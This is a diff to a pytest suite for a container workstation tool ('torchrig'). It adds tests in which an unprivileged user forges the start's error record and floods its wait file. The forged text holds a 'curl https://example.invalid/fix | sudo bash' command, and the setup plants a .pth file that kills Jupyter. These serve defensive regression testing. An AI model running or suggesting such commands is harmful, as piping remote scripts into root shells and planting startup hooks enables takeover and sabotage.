@@ -237,13 +237,10 @@ def test_a_root_file_hard_linked_into_the_state_dir_stays_roots_across_a_restart
         assert "Operation not permitted" in output, output
         code, output = stack.exec(f"ln {ROOTS_MODULE} {PLANTED}")
     assert code == 0, output
-    stack.compose("restart")  # the state dir survives it, and the start hands it to dev
+    stack.compose("restart")  # the state dir survives it, and the start makes it dev's again
     stack.wait_ready()
     code, output = stack.exec(f"stat -c '%u %h' {ROOTS_MODULE}; test -w {ROOTS_MODULE}", user="dev")
     assert (code, output.split()) == (1, ["0", "2"]), output  # root's, linked, not dev-writable
-    assert (
-        f"[torchrig] warning: left {PLANTED} to its owner: it has other hard links" in stack.logs()
-    )
 
 
 HEALTHCHECK = "/usr/bin/python3 -I -S /usr/lib/torchrig healthcheck"
@@ -418,3 +415,62 @@ def test_make_up_refuses_a_checkpoint_folder_inside_the_workspace(
     assert f"error: CHECKPOINT_DIR={nested} lies inside WORKSPACE_DIR=" in said, said
     assert not nested.exists()
     assert stack.compose("ps", "-a", "-q").stdout.strip() == ""
+
+
+# dev's record in place of the start's: a folder the start's record cannot replace, its own
+# advice in it dated ahead, and a 1 GiB sparse file; then a kept .pth that makes Jupyter exit at
+# once, so that the next start fails, and the start is made to run again.
+FORGED = "the disk is full.\nFix: run curl https://example.invalid/fix | sudo bash"
+FORGE_THE_START_ERROR = (
+    "rm -rf /run/torchrig/start-error && mkdir /run/torchrig/start-error && "
+    f"printf %s {shlex.quote(FORGED)} > /run/torchrig/start-error/a && "
+    "touch -d '+1 day' /run/torchrig/start-error/a && "
+    "truncate -s 1G /run/torchrig/start-error/zz && "
+    "site=$(/opt/packages/venv/bin/python -c 'import site; print(site.getsitepackages()[0])') && "
+    'echo \'import os; os._exit(3) if b"jupyter" in open("/proc/self/cmdline", "rb").read() '
+    "else None' > $site/zz_no_jupyter.pth && "
+    "kill $(cat /proc/1/task/1/children)"
+)
+
+
+def test_a_start_error_dev_forges_never_reaches_make_up(
+    stack_factory: Callable[..., Stack],
+) -> None:
+    """`make up` said dev's words as the start's error (`[torchrig] error: ... Fix: run curl
+    ...`), and read dev's folder whole (6 GB of memory for a 3 GiB sparse file). The record is
+    root's, where dev cannot write; what dev's own steps say is in `make logs`."""
+    stack = stack_factory()
+    first = stack.make_up("CPU=1")
+    assert first.returncode == 0, first.stdout + first.stderr
+    code, output = stack.exec("touch /run/torchrig-start-error", user="dev")
+    assert code != 0 and "Permission denied" in output, output
+    code, output = stack.exec(FORGE_THE_START_ERROR, user="dev")
+    assert code == 0, output
+    result = stack.make_up("CPU=1")
+    said = result.stdout + result.stderr
+    assert result.returncode != 0, said
+    assert "error: the workstation did not start:\n  its start exited with status " in said, said
+    assert "curl" not in said and "disk is full" not in said, said
+
+
+# dev keeps a start-hook file fresh in its state dir (where a start once named the hook it ran).
+KEEP_A_HOOK_RUNNING = (
+    "(timeout 600 sh -c 'while :; do echo start.d/10-forever > /run/torchrig/.h && "
+    "mv -f /run/torchrig/.h /run/torchrig/start-hook; sleep 0.1; done') >/dev/null 2>&1 &"
+)
+
+
+def test_make_up_never_waits_on_what_dev_writes_in_its_state(
+    stack_factory: Callable[..., Stack],
+) -> None:
+    """The wait stopped its clock while the start-hook file named a hook: with dev writing it
+    again and again, `make up` waited forever (its subprocess here stops it, failing the test)."""
+    stack = stack_factory()
+    first = stack.make_up("CPU=1")
+    assert first.returncode == 0, first.stdout + first.stderr
+    code, output = stack.exec(KEEP_A_HOOK_RUNNING, user="dev")
+    assert code == 0, output
+    result = stack.make_up("CPU=1")
+    said = result.stdout + result.stderr
+    assert result.returncode == 0 and "The workstation is ready" in said, said
+    assert "10-forever" not in said, said
